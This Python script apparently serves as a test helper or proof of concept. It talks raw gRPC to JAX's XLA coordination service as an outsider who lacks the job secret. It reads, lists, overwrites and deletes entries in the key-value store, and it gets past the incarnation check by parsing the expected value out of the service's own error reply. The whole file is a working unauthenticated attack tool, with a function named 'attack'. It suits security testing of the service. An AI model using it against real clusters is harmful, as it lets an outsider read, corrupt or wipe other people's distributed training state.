"""A stranger at the port of JAX's coordination service: a process of its own, without the secret.

    python coordination_stranger.py HOST:PORT find|list|set|delete KEY [VALUE IN HEXADECIMAL]

Speaks gRPC by hand, because JAX's client ends its process when it has not joined the job. The
service asks for a number of its own, which it tells whoever comes with another one. ``find`` prints
the value in hexadecimal, ``list`` all keys.
"""

from __future__ import annotations

import re
import subprocess
import sys

_SERVICE = "/xla.coordination.CoordinationService"
_TIMEOUT_S = 30.0


def attack(address: str, *arguments: str) -> str:
    """Let a stranger do it, in a process of his own; returns what he reads."""
    command = [sys.executable, __file__, address, *arguments]
    done = subprocess.run(command, env={}, capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    return done.stdout.strip()


def _field(number: int, data: bytes) -> bytes:
    """Return a protobuf field of bytes."""
    return _varint(number << 3 | 2) + _varint(len(data)) + data


def _varint(number: int) -> bytes:
    rest = number >> 7
    return bytes([number & 127 | (128 if rest else 0)]) + (_varint(rest) if rest else b"")


def _fields(data: bytes) -> list[tuple[int, bytes]]:
    """Return the fields of bytes in a message that has no others."""
    found: list[tuple[int, bytes]] = []
    place = 0

    def number() -> int:
        nonlocal place
        value = shift = 0
        while True:
            byte = data[place]
            place += 1
            value |= (byte & 127) << shift
            shift += 7
            if byte < 128:
                return value

    while place < len(data):
        tag, size = number() >> 3, number()
        found.append((tag, data[place : place + size]))
        place += size
    return found


def main(address: str, action: str, key: str, value: str = "") -> None:
    import grpc  # noqa: PLC0415 - only the stranger's own process needs it

    with grpc.insecure_channel(address) as channel:

        def send(method: str, request: bytes, service: int) -> bytes:
            known = _field(1, b"\x19" + service.to_bytes(8, "little"))
            call = channel.unary_unary(f"{_SERVICE}/{method}")
            return call(known + request, timeout=_TIMEOUT_S)

        def call(method: str, request: bytes) -> bytes:
            try:
                return send(method, request, 0)
            except grpc.RpcError as error:
                told = re.search(r"wrong service incarnation: .* currently (\d+)", str(error))
                if told is None:
                    raise
                return send(method, request, int(told[1]))

        if action == "find":
            ((_, entry),) = _fields(call("TryGetKeyValue", _field(2, key.encode())))
            print(dict(_fields(entry)).get(2, b"").hex())
        elif action == "list":
            answer = _fields(call("GetKeyValueDir", _field(2, key.encode())))
            print("\n".join(dict(_fields(e))[1].decode() for tag, e in answer if tag == 2))
        elif action == "set":
            entry = _field(1, key.encode()) + _field(2, bytes.fromhex(value))
            call("InsertKeyValue", _field(2, entry) + b"\x18\x01")  # allow_overwrite
        elif action == "delete":
            call("DeleteKeyValue", _field(2, key.encode()) + b"\x18\x01")  # is_directory
        else:
            sys.exit(f"no such action: {action}")


if __name__ == "__main__":
    main(*sys.argv[1:])
